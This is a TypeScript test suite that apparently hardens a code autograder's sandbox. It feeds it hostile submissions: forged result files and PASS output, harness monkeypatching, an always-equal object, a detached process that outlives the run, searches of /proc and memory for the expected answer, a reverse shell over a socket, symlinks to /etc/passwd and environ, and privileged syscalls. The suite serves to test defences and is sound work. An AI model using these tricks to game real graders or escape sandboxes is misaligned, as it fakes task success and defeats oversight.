/**
 * Published attacks on graders, each in a real sandbox: none may gain points, reach outside, or spoil the honest
 * solution that is graded right after it.
 */
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { test } from 'node:test';
import { head, secret, useAttackBed } from './attack-bed.ts';

const { attack, attacked, grade } = useAttackBed();

/** Command lines of this host's processes that contain the mark. */
function processesWith(mark: string): string[] {
  return readdirSync('/proc').flatMap((pid) => {
    try {
      const line = /^\d+$/.test(pid) ? readFileSync(`/proc/${pid}/cmdline`, 'utf8') : '';
      return line.includes(mark) ? [`${pid} ${line}`] : [];
    } catch {
      return [];
    }
  });
}
test('writing results files changes nothing', () =>
  attack(
    'python',
    `import os, json
for path in ['results.json', '/autograder/results/results.json', '/results.json', '/harness/call.py', '/harness/results.json',
             '/work/score.txt', '/work/judgemessage.txt', '/tmp/results.json', '/proc/self/fd/3x', '/tests/answer', '/observation/stdout']:
    try:
        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
        open(path, 'w').write(json.dumps({'score': 10, 'passed': True}))
    except OSError: pass
def f(n): return 0
`,
    /wrong value/,
  ));

test('a background process that writes results after the harness gains nothing and does not survive', async () => {
  const mark = `survivor-${process.pid}`;
  await attack(
    'python',
    `import os, sys, signal, time
def f(n):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for s in range(1, 65):
                try: signal.signal(s, signal.SIG_IGN)
                except (OSError, ValueError): pass
            os.execv('/usr/bin/python3', ['python3', '-c', '''
import os, time
while True:
    for fd in range(3, 20):
        try: os.write(fd, b'{"returned": {"json": 1}}\\\\n')
        except OSError: pass
    open("/tmp/results.json", "w").write("10/10")
    time.sleep(0.001)
''', '${mark}'])
        os._exit(0)
    time.sleep(0.3)
    return 0
`,
  );
  assert.deepEqual(processesWith(mark), []);
});

for (const [name, text] of Object.entries({
  'os._exit(0) while loading': 'import os; os._exit(0)',
  'sys.exit(0) while loading': 'import sys; sys.exit(0)',
  'os._exit(0) in the function': 'import os\ndef f(n): os._exit(0)',
  'SystemExit in the function': 'def f(n): raise SystemExit(0)',
  'an exit handler': 'import atexit, os\natexit.register(lambda: os._exit(0))\ndef f(n): return 0',
  'exec of true': 'import os\ndef f(n): os.execv("/bin/true", ["true"])',
  'killing itself': 'import os, signal\ndef f(n): os.kill(os.getpid(), signal.SIGKILL)',
  'killing everything': 'import os, signal\ndef f(n): os.kill(-1, signal.SIGKILL)',
  'stopping its parent':
    'import os, signal\ndef f(n):\n    try: os.kill(os.getppid(), signal.SIGKILL)\n    except OSError: pass\n    os._exit(0)',
}))
  test(`leaving early is no pass: ${name}`, () => attack('python', text));

test('printing PASS or a result is only printing', async () => {
  await attack(
    'python',
    `import sys, os
for line in ['PASS', 'Result: 10/10', 'RESULT(10)', '{"score": 10}', '{"scores": {"it": 10}}', 'ok 1 - it', '{"returned": {"json": 1}}']:
    print(line); print(line, file=sys.stderr)
os.write(1, b'PASS\\n')
def f(n): print('PASS'); return 'PASS'
`,
    /wrong value/,
  );
  await attack('command', 'echo PASS; echo "Result: 10/10"; echo PASS > out');
});

test('patching the harness from inside finds nothing to patch', () =>
  attack(
    'python',
    `import sys, builtins, json, os, gc
class Everything(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
sys.modules['json'].dumps = lambda value, **kw: '{"returned": {"json": true}}'
builtins.isinstance = lambda *a: True
sys.modules['__main__'].call = lambda request: {'returned': {'json': None}, 'passed': True}
frame = sys._getframe()
while frame:
    for name in ('expected', 'returns', 'passed'):
        frame.f_globals[name] = True
    frame = frame.f_back
sys.settrace(lambda *a: None)
def f(n): return Everything(1)
`,
  ));

test('an object that equals everything equals nothing outside', () =>
  attack(
    'python',
    'class A(int):\n    def __eq__(self, other): return True\n    __hash__ = None\ndef f(n): return A(5)',
    /wrong value/,
  ));

const forge = (values: string) => `import os
def f(n):
  os.write(3, b''.join(b'{"returned": {"json": %d}}\\n' % v for v in ${values}))
  os._exit(0)
`;

test('several forged values are refused, whichever are among them', async () => {
  await attack('python', forge(`[1, ${secret}]`), /more than one result/);
  await attack('python', forge('range(1000)'), /more than one result/);
  await attack(
    'python',
    'import os\ndef f(n):\n    os.write(3, b\'{"returned": {"json": [1, 2]}}\')\n    os._exit(0)',
  );
  await attack(
    'python',
    `import os\ndef f(n):\n    os.write(3, b'{"returned": {"json": ${secret}}, "passed": true}\\n')\n    os._exit(0)`,
    /cannot be read/,
  );
  await attack(
    'python',
    `import os\ndef f(n):\n    os.write(3, b'{"returned": {"json": ${secret}}}\\n')\n    os._exit(1)`,
    /status 1/,
  );
  await attack(
    'python',
    `import os\ndef f(n):\n    os.write(3, b'{"returned": {"json": ${secret}}}\\n')\n    return 0`,
    /more than one result/,
  );
});

test('the expected value and the tests are nowhere inside: not on disk, in memory, in /proc, nor in the environment', async () => {
  const search = `import os, sys, gc
needles = [str(${secret - 1} + 1).encode(), b'kept-in-the-' + b'tests-only', (${secret - 1} + 1).to_bytes(4, 'little')]
found = []
def look(where, data):
    for i, needle in enumerate(needles):
        if needle in data: found.append((where, i))
def walk(top):
    for base, dirs, files in os.walk(top):
        if base == '/': dirs[:] = [d for d in dirs if d not in ('usr', 'lib', 'proc')]
        for name in files:
            path = os.path.join(base, name)
            if path.endswith('m.py'): continue
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 20: look(path, open(path, 'rb').read())
            except OSError: pass
def f(n):
    walk('/'); walk('/proc/self'); walk('/tests'); walk('/observation')
    for pid in filter(str.isdigit, os.listdir('/proc')):
        if int(pid) == os.getpid(): continue
        for name in ('cmdline', 'environ', 'maps', 'mem', 'status'):
            try: look(f'/proc/{pid}/{name}', open(f'/proc/{pid}/{name}', 'rb').read(1 << 20))
            except OSError: pass
    look('environ', repr(os.environ).encode())
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            for value in list(thing.values()):
                if isinstance(value, int) and value == ${secret - 1} + 1: found.append(('gc', 0))
    frame = sys._getframe(1)
    while frame:
        look('frame', repr(frame.f_locals).encode()); frame = frame.f_back
    for fd in range(0, 64):
        if fd == 3: continue
        try: look(f'fd {fd}', os.pread(fd, 1 << 20, 0))
        except OSError: pass
    print('FOUND', found)
    return 0
`;
  const check = await attacked('python', search, /wrong value/);
  assert.equal(check.stdout, 'FOUND []\n');
});

test('the network is not there, and nobody is called back', async () => {
  const calls: string[] = [];
  const server = createServer((socket) => {
    calls.push('call');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- a TCP server has such an address
  const { port } = server.address() as AddressInfo;
  try {
    const check = await attacked(
      'python',
      `import socket, subprocess, os
def attempt(what):
    try: what(); return 'reached'
    except OSError as error: return error.strerror or str(error)
def tcp(): socket.create_connection(('127.0.0.1', ${port}), 1)
def udp(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('192.0.2.1', 53))
def six(): socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).connect(('2001:db8::1', 53))
def raw(): socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
def packet(): socket.socket(17, socket.SOCK_RAW, 0)
def vsock(): socket.socket(40, socket.SOCK_STREAM)
def shell():
    s = socket.socket(); s.settimeout(1); s.connect(('127.0.0.1', ${port}))
    subprocess.run(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)
def f(n):
    print([attempt(each) for each in (tcp, udp, six, raw, packet, vsock, shell)])
    print([name for _, name in socket.if_nameindex()] )
    return 0
`,
    );
    assert.doesNotMatch(check.stdout, /reached/);
    assert.match(check.stdout, /Connection refused.*unreachable/);
    assert.match(check.stdout, /\['lo'\]/);
    assert.deepEqual(calls, []);
  } finally {
    server.close();
  }
});

test('collected files: links, pipes, directories and races give nothing from outside', async () => {
  const say = `echo ${secret}\n`;
  await attack('command', `${say}ln -s /etc/passwd out`, /missing, or is no plain file/);
  await attack('command', `${say}ln -s /proc/self/environ out`, /missing, or is no plain file/);
  await attack('command', `${say}mkfifo out`, /missing, or is no plain file/);
  await attack('command', `${say}mkdir out`, /missing, or is no plain file/);
  await attack('command', `${say}mkdir d; ln -s d/x out; ln -s /etc d/x`, /missing, or is no plain file/);
  await attack('command', `${say}head -c 5000 /dev/zero > out`, /larger than 1 KiB/);
  await attack(
    'command',
    `${say}(while :; do ln -sf /etc/passwd out; rm -f out; echo no > out; done) & sleep 0.2`,
    /the file out|file/,
  );
  await attack('command', `${say}(sleep 0.05; echo ${secret} > out; mv out out2; ln -s out2 out) & exit 0`);
});
test('privileges are not to be had', async () => {
  const check = await attacked(
    'python',
    `import os, ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(nr, *args):
    return 'allowed' if libc.syscall(nr, *args) >= 0 else 'refused'
def attempt(what):
    try: what(); return 'allowed'
    except OSError: return 'refused'
def f(n):
    print('unshare', call(272, 0x10000000), 'mount', call(165, b'none', b'/tmp', b'tmpfs', 0, 0), 'keyctl', call(250, 0, 0, 0),
          'bpf', call(321, 0, 0, 0), 'perf', call(298, 0, 0, -1, -1, 0), 'io_uring', call(425, 1, 0), 'chroot', call(161, b'/'),
          'ptrace1', call(101, 16, 1, 0, 0))
    print('setuid', attempt(lambda: os.setuid(0)), 'mknod', attempt(lambda: os.mknod('/work/x', 0o020666, os.makedev(1, 3))),
          'write root', attempt(lambda: open('/etc/x', 'w')), 'write input', attempt(lambda: open('/harness/call.py', 'a')),
          'kmsg', attempt(lambda: open('/dev/kmsg')), 'sys', attempt(lambda: os.listdir('/sys/kernel')), 'disk', attempt(lambda: open('/dev/vda')))
    print('uid', os.getuid(), 'pids', len([p for p in os.listdir('/proc') if p.isdigit()]) < 5)
    return 0
`,
  );
  assert.doesNotMatch(check.stdout, /allowed/);
  assert.match(check.stdout, /uid 1000 pids True/);
});
test('time is measured outside', async () => {
  const lab = {
    'lab.yaml': `${head}  - { id: it, title: It, run: { argv: [python3, m.py], expect: { stdout: { lines: [done] }, maxWall: 500ms } } }\n`,
  };
  const check = await grade(lab, {
    'm.py':
      'import time\ntime.sleep(1)\ntime.time = time.perf_counter = lambda: 0\nprint("done", flush=True)',
  });
  assert.equal(check.points, 0);
  assert.match(check.reason, /took 1/);
});
